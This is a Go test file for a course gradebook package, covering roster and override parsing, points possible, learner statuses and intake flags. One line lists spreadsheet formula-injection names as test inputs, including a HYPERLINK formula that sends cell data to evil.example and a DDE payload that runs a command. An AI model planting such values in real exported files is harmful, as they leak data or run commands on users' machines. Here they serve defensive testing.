package gradebook

import (
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/coalescing-course/coalesce/grader/gradebook/answers"
	"github.com/coalescing-course/coalesce/grader/gradebook/intake"
)

// sub is a readable submission of learner with one literal call per
// exercise id in preds.
func sub(learner, path string, preds map[string]float64) intake.Submission {
	s := intake.Submission{Path: path, Learner: learner, IdentityFrom: intake.FromFolder, Found: answers.Found{Course: true}}
	for id, v := range preds {
		s.Found.Calls = append(s.Found.Calls, answers.Call{Cell: 1, Line: 1, ID: id, Value: v, Form: answers.FormLiteral, Arg: strconv.FormatFloat(v, 'g', -1, 64)})
	}
	return s
}

func gradeSubs(t *testing.T, subs []intake.Submission, opt Options) *Gradebook {
	t.Helper()
	if opt.ModTime == nil {
		opt.ModTime = fixedModTime
	}
	gb, err := Grade(testGrader(t), subs, opt)
	require.NoError(t, err)
	return gb
}

func totalOf(t *testing.T, gb *Gradebook, learner string) Total {
	t.Helper()
	for _, tot := range gb.Totals {
		if tot.Learner == learner {
			return tot
		}
	}
	require.Failf(t, "no total", "learner %q", learner)
	return Total{}
}

// hostile are learner names a spreadsheet would run as formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1", "=cmd|' /C calc'!A0"}

// TestPointsPossible: the points possible are the assignment's, not what
// the batch touched. A learner who submitted 03-strided only, graded on
// 01-sectors and 03-strided, has 7 points possible: 01-sectors' three
// exercises of 1 point, 03-strided's 1 + 1 + 2 (questions.json).
func TestPointsPossible(t *testing.T) {
	subs := []intake.Submission{sub("ada", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32})}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"01-sectors", "03-strided"}})
	assert.Equal(t, 7.0, gb.PointsPossible)
	tot := totalOf(t, gb, "ada")
	assert.Equal(t, 7.0, tot.MaxPoints)
	assert.Equal(t, 1.0, tot.Points)
	assert.Equal(t, 14.29, tot.Percent, "1/7 = 14.2857%")
	assert.Equal(t, "01-sectors+03-strided", tot.Assignment, "the default assignment name")

	all := gradeSubs(t, subs, Options{})
	assert.Equal(t, testGrader(t).Bank().LessonIDs(), all.Lessons, "no lessons named: the whole bank")
	assert.Greater(t, all.PointsPossible, gb.PointsPossible)
}

func TestReadRoster(t *testing.T) {
	tests := []struct {
		name, in string
		want     []string
		err      string
	}{
		{"one id a line, comments and blanks", "# class\nada\n\n  bob  \n#carl\nada\n", []string{"ada", "bob"}, ""},
		{"a BOM and CRLF", "\uFEFFada\r\nbob\r\n", []string{"ada", "bob"}, ""},
		{"CSV with an id column", "name,id,email\nAda L,ada,a@x\n# note\nBob B,bob,b@x\n", []string{"ada", "bob"}, ""},
		{"CSV with a Learner column", "Learner,section\nada,1\n", []string{"ada"}, ""},
		{"CSV, a short row", "name,id\nAda\nBob,bob\n", []string{"bob"}, ""},
		{"CSV without an id column", "# x\nname,email\nada,a@x\n", nil, "line 2: header \"name,email\" has no id column"},
		{"a hostile id is an id", "=1+1\n", []string{"=1+1"}, ""},
		{"not UTF-8", "ada\xff\n", nil, "not UTF-8"},
		{"empty", "# nobody\n", nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadRoster(strings.NewReader(tt.in), "roster.txt")
			if tt.err != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), "gradebook: roster roster.txt")
				assert.Contains(t, err.Error(), tt.err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func FuzzReadRoster(f *testing.F) {
	for _, s := range []string{"ada\nbob\n", "# c\nid,name\nada,A\n", "name,id\n\"a,b\",x\n", "x,\"unterminated\n", "\uFEFF\r\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		ids, err := ReadRoster(strings.NewReader(s), "f")
		if err != nil {
			assert.Contains(t, err.Error(), "gradebook: roster f")
			return
		}
		seen := map[string]bool{}
		for _, id := range ids {
			assert.NotEmpty(t, id)
			assert.Equal(t, strings.TrimSpace(id), id)
			assert.False(t, seen[id], "repeated %q", id)
			seen[id] = true
		}
	})
}

// TestRosterStatus: with a roster, a learner on it without a notebook has
// 0 of the points possible and the status missing; one found but not on
// it is graded and flagged.
func TestRosterStatus(t *testing.T) {
	subs := []intake.Submission{
		sub("ada", "ada/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32, "03-strided/efficiency-stride-2": 0.5, "03-strided/slowdown-stride-32": 16}),
		sub("eve", "eve/03-strided.ipynb", map[string]float64{"03-strided/sectors-stride-32": 32}),
		{Path: "bad/03-strided.ipynb", Learner: "bad", IdentityFrom: intake.FromFolder, Problem: "malformed JSON"},
	}
	gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}, Roster: []string{"ada", "zed", "bad"}})
	tests := []struct {
		learner string
		status  LearnerStatus
		points  float64
		flag    string
	}{
		// ada: 1 + 1 + 2 = 4 of 4, every exercise answered.
		{"ada", StatusGraded, 4, ""},
		{"zed", StatusMissing, 0, "no notebook submitted"},
		{"eve", StatusFlagged, 1, "not on roster"},
		{"bad", StatusUnreadable, 0, "1 of 1 notebook could not be read"},
	}
	for _, tt := range tests {
		t.Run(tt.learner, func(t *testing.T) {
			tot := totalOf(t, gb, tt.learner)
			assert.Equal(t, tt.status, tot.Status)
			assert.Equal(t, tt.points, tot.Points)
			assert.Equal(t, 4.0, tot.MaxPoints, "03-strided: 1 + 1 + 2")
			if tt.flag != "" {
				assert.Contains(t, strings.Join(tot.Flags, "; "), tt.flag)
			} else {
				assert.Empty(t, tot.Flags)
			}
		})
	}
	t.Run("a roster's id matches a folder whatever its case", func(t *testing.T) {
		gb := gradeSubs(t, subs, Options{Lessons: []string{"03-strided"}, Roster: []string{"Ada", "EVE", "bad"}})
		var names []string
		for _, tot := range gb.Totals {
			names = append(names, tot.Learner)
		}
		assert.Equal(t, []string{"ada", "bad", "eve"}, names, "no missing Ada beside the graded ada")
		assert.Equal(t, StatusGraded, totalOf(t, gb, "ada").Status)
		assert.NotContains(t, totalOf(t, gb, "eve").Flags, "not on roster")
	})
	t.Run("eve is also partial, and says so", func(t *testing.T) {
		assert.Contains(t, totalOf(t, gb, "eve").Flags, "exercises: 2 missing")
	})
	t.Run("zed has a missing row for every exercise", func(t *testing.T) {
		n := 0
		for _, r := range gb.Rows {
			if r.Learner == "zed" {
				n++
				assert.Equal(t, Missing, r.Status)
				assert.Contains(t, r.Note, "no notebook submitted")
			}
		}
		assert.Equal(t, 3, n, "03-strided has 3 exercises")
	})
	t.Run("times", func(t *testing.T) {
		assert.Equal(t, "2026-12-01T10:00:00Z", totalOf(t, gb, "ada").Submitted)
		assert.Empty(t, totalOf(t, gb, "zed").Submitted)
	})
}

func TestReadOverrides(t *testing.T) {
	tests := []struct {
		name, in string
		want     []Override
		err      string
	}{
		{"header, comment, with and without a reason",
			"learner,exercise,points,reason\n# regrade\nada,03-strided/sectors-stride-32,1,counted by hand\nbob, 03-strided/efficiency-stride-2 ,0.5\n",
			[]Override{{Learner: "ada", ID: "03-strided/sectors-stride-32", Points: 1, Reason: "counted by hand", File: "o.csv", Line: 3},
				{Learner: "bob", ID: "03-strided/efficiency-stride-2", Points: 0.5, File: "o.csv", Line: 4}}, ""},
		{"points not a number", "ada,x,one,r\n", nil, "o.csv line 1: points \"one\": want a number"},
		{"points NaN", "learner,exercise,points\nada,x,NaN\n", nil, "line 2: points \"NaN\""},
		{"too few fields", "ada,x\n", nil, "line 1: 2 fields"},
		{"too many fields", "ada,x,1,r,extra\n", nil, "line 1: 5 fields"},
		{"no learner", ",x,1\n", nil, "line 1: want a learner and an exercise id"},
		{"a bad quote", "ada,\"x,1\n", nil, "o.csv line 1"},
		{"empty", "", nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ReadOverrides(strings.NewReader(tt.in), "o.csv")
			if tt.err != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), "gradebook: overrides ")
				assert.Contains(t, err.Error(), tt.err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func FuzzReadOverrides(f *testing.F) {
	for _, s := range []string{"learner,exercise,points,reason\nada,03-strided/sectors-stride-32,1,r\n", "#c\nada,x,-1\n", "a,b,1e309\n", "\"a\nb\",x,1\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		os, err := ReadOverrides(strings.NewReader(s), "f")
		if err != nil {
			assert.Contains(t, err.Error(), "gradebook: overrides f")
			return
		}
		for _, o := range os {
			assert.Positive(t, o.Line)
			assert.NotEmpty(t, o.Learner)
			assert.NotEmpty(t, o.ID)
			assert.False(t, o.Points != o.Points, "NaN points")
		}
	})
}

// Intake's marks reach the totals: a possible copy or a duplicate notebook
// makes the learner flagged with intake's sentence; a file intake could not
// read counts as unreadable through its Problem, not as a flag.
func TestStatusFromIntakeFlags(t *testing.T) {
	rows := []Row{{Status: Right}}
	copied := &intake.Submission{Path: "subs/ada/01-sectors.ipynb"}
	copied.Flags, copied.Notes = []intake.Flag{intake.FlagPossibleCopy}, []string{"possible copy: metadata names bob"}
	st, flags := learnerStatus(rows, []*intake.Submission{copied}, nil)
	assert.Equal(t, StatusFlagged, st)
	assert.Equal(t, []string{"possible copy: metadata names bob"}, flags)

	dup := &intake.Submission{Path: "subs/ada/01-sectors-Copy1.ipynb", Role: intake.RoleDuplicate}
	dup.Flags, dup.Notes = []intake.Flag{intake.FlagDuplicate}, []string{"duplicate of 01-sectors.ipynb"}
	st, _ = learnerStatus(rows, []*intake.Submission{{Path: "subs/ada/01-sectors.ipynb"}, dup}, nil)
	assert.Equal(t, StatusFlagged, st)

	pipe := &intake.Submission{Path: "subs/ada/02-coalescing.ipynb", Problem: "not a regular file (named pipe): skipped"}
	pipe.Flags, pipe.Notes = []intake.Flag{intake.FlagUnreadable, intake.FlagNotRegular}, []string{pipe.Problem, pipe.Problem}
	st, flags = learnerStatus(rows, []*intake.Submission{pipe}, nil)
	assert.Equal(t, StatusUnreadable, st)
	assert.NotContains(t, flags, pipe.Problem, "an unreadable file is counted, not listed as a flag")
}
